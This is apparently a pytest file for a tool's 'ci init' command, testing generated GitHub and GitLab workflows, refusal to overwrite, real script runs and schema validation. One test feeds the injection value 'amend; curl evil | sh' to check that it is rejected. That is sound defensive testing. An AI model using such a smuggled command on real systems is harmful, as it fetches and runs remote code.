"""``amend ci init``: GitHub and GitLab workflows, never overwriting without --force."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

from test_vcs_scenario import NEW_WORDS, TEXT, commit_scenario

from amend.storage import yamlio
from conftest import EXAMPLE, GIT_ENV, git

WORKFLOW = Path(".github/workflows/amend.yml")
GITLAB = Path(".gitlab-ci.yml")


def load(path: Path) -> dict:
    return yamlio.load(path).data  # the safe loader: refuses anything unusual


def test_writes_both_valid_workflows(repo: Path, amend) -> None:
    result = amend("ci", "init", cwd=repo)
    assert result.exit_code == 0, result.output
    workflow = load(repo / WORKFLOW)
    # « on » is a YAML 1.1 boolean for some loaders; ruamel (YAML 1.2) keeps it a key
    assert "pull_request" in workflow["on"]
    steps = workflow["jobs"]["amend"]["steps"]
    assert steps[0] == {"uses": "actions/checkout@v4", "with": {"fetch-depth": 0}}
    runs = "\n".join(step.get("run", "") for step in steps)
    assert 'amend check --since "origin/$BASE_REF" --format github' in runs
    assert 'amend diff "origin/$BASE_REF...HEAD" --format markdown >> "$GITHUB_STEP_SUMMARY"' in runs
    assert "python -m pip install amend==0.1.0" in runs
    # the branch name reaches the shell through the environment, never pasted into the script
    assert "${{" not in runs
    gitlab = load(repo / GITLAB)
    script = "\n".join(gitlab["amend"]["script"])
    assert gitlab["amend"]["variables"]["GIT_DEPTH"] == "0"
    assert 'amend check --since "origin/$target"' in script
    assert "--format markdown > amend-diff.md" in script


def test_refuses_to_overwrite_without_force(repo: Path, amend) -> None:
    (repo / GITLAB).write_text("mine: {}\n", encoding="utf-8")
    result = amend("ci", "init", cwd=repo)
    assert result.exit_code == 1 and "CI001" in result.stderr and "--force" in result.stderr
    assert (repo / GITLAB).read_text(encoding="utf-8") == "mine: {}\n"
    assert not (repo / WORKFLOW).exists()  # nothing written when one file is refused
    result = amend("ci", "init", "--platform", "github", cwd=repo)
    assert result.exit_code == 0 and (repo / WORKFLOW).exists()
    result = amend("ci", "init", "--force", "--install", "git+https://forge.example/amend@v0.1.0", cwd=repo)
    assert result.exit_code == 0, result.output
    assert "remplacé" in result.stdout
    assert "pip install git+https://forge.example/amend@v0.1.0" in (repo / GITLAB).read_text()


def test_install_spec_cannot_inject_shell(repo: Path, amend) -> None:
    result = amend("ci", "init", "--install", "amend; curl evil | sh", cwd=repo)
    assert result.exit_code == 2
    assert not (repo / WORKFLOW).exists() and not (repo / GITLAB).exists()


def test_in_amend_own_repository_installs_from_source(repo: Path, amend) -> None:
    (repo / "pyproject.toml").write_text('[project]\nname = "amend"\n', encoding="utf-8")
    amend("ci", "init", "--platform", "github", cwd=repo)
    assert "python -m pip install ." in (repo / WORKFLOW).read_text(encoding="utf-8")
    assert git(repo, "status", "--porcelain", "--", ".github") == "?? .github/\n"


def test_pull_request_scripts_run_for_real(tmp_path: Path, amend) -> None:
    """Run the workflows' own merge-request scripts in a clone, as the runners would."""
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(origin))
    work = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(origin), str(work))
    (work / "drafts" / "ppre-1775").mkdir(parents=True)
    shutil.copy(EXAMPLE, work / TEXT)
    git(work, "add", ".")
    git(work, "commit", "-qm", "initial")
    git(work, "push", "-q", "origin", "HEAD:main")
    git(work, "checkout", "-qb", "demande")
    commit_scenario(work)
    git(work, "fetch", "-q", "origin")
    assert amend("ci", "init", "--platform", "github", cwd=work).exit_code == 0
    steps = load(work / WORKFLOW)["jobs"]["amend"]["steps"]
    summary = tmp_path / "summary.md"
    env = {**os.environ, **GIT_ENV, "BASE_REF": "main", "GITHUB_STEP_SUMMARY": str(summary),
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    for step in steps:
        if step.get("if") == "github.event_name == 'pull_request'":
            proc = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=work, env=env,
                                  capture_output=True, text=True)
            assert proc.returncode in (0, 1), proc.stderr  # 1: findings on the changed lines
            assert "Traceback" not in proc.stderr and "erreur interne" not in proc.stderr
    text = summary.read_text(encoding="utf-8")
    assert "1 visa supprimé, 1 considérant reformulé, 1 point ajouté" in text
    assert f"<ins>{NEW_WORDS}</ins>" in text
    # the GitLab job's script, in a merge-request pipeline
    assert amend("ci", "init", "--platform", "gitlab", cwd=work).exit_code == 0
    script = "\n".join(load(work / GITLAB)["amend"]["script"])
    proc = subprocess.run(["bash", "-e", "-c", script], cwd=work, capture_output=True, text=True,
                          env={**env, "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main"})
    assert proc.returncode in (0, 1), proc.stderr
    assert "Traceback" not in proc.stderr and "erreur interne" not in proc.stderr
    assert f"<ins>{NEW_WORDS}</ins>" in (work / "amend-diff.md").read_text(encoding="utf-8")
    assert (work / "amend-diff.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_workflows_pass_the_official_schemas(repo: Path, amend) -> None:
    """GitHub's and GitLab's own schemas (vendored by check-jsonschema, no network)."""
    amend("ci", "init", cwd=repo)
    for schema, path in (("vendor.github-workflows", WORKFLOW), ("vendor.gitlab-ci", GITLAB)):
        proc = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema,
                               str(repo / path)], capture_output=True, text=True)
        assert proc.returncode == 0, proc.stdout + proc.stderr
